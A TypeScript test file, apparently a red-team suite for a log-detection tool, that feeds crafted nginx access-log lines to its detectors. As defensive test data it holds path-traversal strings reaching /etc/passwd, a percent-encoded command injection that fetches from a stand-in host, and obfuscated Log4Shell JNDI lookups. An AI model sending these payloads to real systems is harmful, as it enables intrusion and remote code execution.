/**
 * Red team of the log detection (issue 14): an attacker who writes the log lines (their
 * request targets, user agents, user names) tries to make an attack invisible. Each
 * finding is numbered as in bench/redteam/README-detect.md; one not fixed is skipped
 * with its reason.
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import type { Alert, LogEvent } from './model.js';
import { createParsers } from './parsers/registry.js';
import { ScenarioEngine } from './scenarios/engine.js';
import { loadBuiltinScenarios } from './scenarios/load.js';

const builtin = loadBuiltinScenarios();
const T0 = Date.parse('2026-12-01T10:00:00Z');
const MON = 'Dec';

function nginxLine(ip: string, method: string, target: string, status: number, sec: number, ua = 'Mozilla/5.0'): string {
  const d = new Date(T0 + sec * 1000);
  const hh = String(d.getUTCHours()).padStart(2, '0');
  const mm = String(d.getUTCMinutes()).padStart(2, '0');
  const ss = String(d.getUTCSeconds()).padStart(2, '0');
  return `${ip} - - [01/${MON}/2026:${hh}:${mm}:${ss} +0000] "${method} ${target} HTTP/1.1" ${status} 512 "-" "${ua}"`;
}

/** The built-in scenarios' alerts for these lines, read by the nginx access parser. */
function alertsFor(lines: readonly string[]): Alert[] {
  const parser = createParsers().get('nginx.access');
  const engine = new ScenarioEngine(builtin.scenarios);
  const out: Alert[] = [];
  let parsed = 0;
  for (const text of lines) {
    const e: LogEvent | null = parser.parse({ text, input: 'redteam', receivedAt: T0 });
    assert.ok(e, `the parser read: ${text}`);
    parsed++;
    out.push(...engine.onEvent(e));
  }
  assert.equal(parsed, lines.length);
  return out;
}

function detectors(lines: readonly string[]): string[] {
  return [...new Set(alertsFor(lines).map((a) => a.detector))].sort();
}

function repeat(n: number, f: (i: number) => string): string[] {
  return Array.from({ length: n }, (_, i) => f(i));
}

describe('red team: evasion in the request target', () => {
  it('the baseline: 30 failed POSTs to /wp-login.php are a brute force', () => {
    assert.ok(detectors(repeat(30, (i) => nginxLine('198.51.100.1', 'POST', '/wp-login.php', 200, i))).includes('web-login-bruteforce'));
  });

  // Finding 1: nginx merges slashes and drops `.` segments before it picks the PHP script,
  // so `//wp-login.php` and `/./wp-login.php` reach the login form; the exact match on
  // url.path missed them.
  for (const target of ['//wp-login.php', '/./wp-login.php', '/.//./wp-login.php', '/login//', '//xmlrpc.php']) {
    it(`finding 1: POST ${target} over and over is still a brute force`, () => {
      const got = detectors(repeat(30, (i) => nginxLine('198.51.100.2', 'POST', target, 200, i)));
      assert.ok(got.includes('web-login-bruteforce') || got.includes('wordpress-xmlrpc-abuse'), got.join(','));
    });
  }

  it('finding 1: a traversal spelled with `./` segments and doubled slashes is still a traversal', () => {
    assert.ok(detectors([nginxLine('203.0.113.1', 'GET', '/static/.././.././.././etc/./passwd', 400, 0)]).includes('path-traversal'));
  });

  // Finding 2: the query string was matched only as sent, so an attack percent-encoded
  // in the query (`%3B` for `;`, `.%2e/` for `../`) went through, while the lists say
  // "as sent and percent-decoded once".
  it('finding 2: a traversal percent-encoded in the query is a traversal', () => {
    assert.ok(detectors([nginxLine('203.0.113.2', 'GET', '/download?file=.%2e/.%2e/.%2e/etc%2fpasswd', 200, 0)]).includes('path-traversal'));
  });
  it('finding 2: a command injection percent-encoded in the query is a command injection', () => {
    assert.ok(detectors([nginxLine('203.0.113.3', 'GET', '/cgi-bin/x?host=%3BWGET%20http://192.0.2.9/a', 200, 0)]).includes('command-injection'));
  });

  // Finding 3: Log4Shell's lookups nest (`${${lower:j}ndi:`, `${${::-j}${::-n}di:`), the
  // obfuscation every scanner sent in 2021; only the literal `${jndi:` was known.
  for (const [where, line] of [
    ['query', nginxLine('203.0.113.4', 'GET', '/?x=${${lower:j}ndi:ldap://192.0.2.9/a}', 200, 0)],
    ['User-Agent', nginxLine('203.0.113.5', 'GET', '/', 200, 0, '${${::-j}${::-n}di:ldap://192.0.2.9/a}')],
    ['query, encoded', nginxLine('203.0.113.6', 'GET', '/?x=%24%7B%24%7Blower:j%7Dndi:ldap://192.0.2.9/a%7D', 200, 0)],
  ] as const) {
    it(`finding 3: a nested Log4Shell lookup in the ${where} is an attack`, () => {
      const got = detectors([line]);
      assert.ok(got.includes('command-injection') || got.includes('scanner-user-agent'), got.join(',') || 'no alert');
    });
  }

  // Finding 4: Java servlet containers (Tomcat, Jetty, Spring) strip `;params` from a path
  // segment, so `/login;x=1` is the login form; the exact match on url.path misses it.
  it('finding 4: POST /login;jsessionid=x over and over is still a brute force', { skip: 'finding 4: path parameters are not stripped from url.path (stripping them would also hide `..;/` and `;wget` from the url.path matches); open' }, () => {
    assert.ok(detectors(repeat(30, (i) => nginxLine('198.51.100.3', 'POST', `/login;jsessionid=${i}`, 401, i))).includes('web-login-bruteforce'));
  });
});
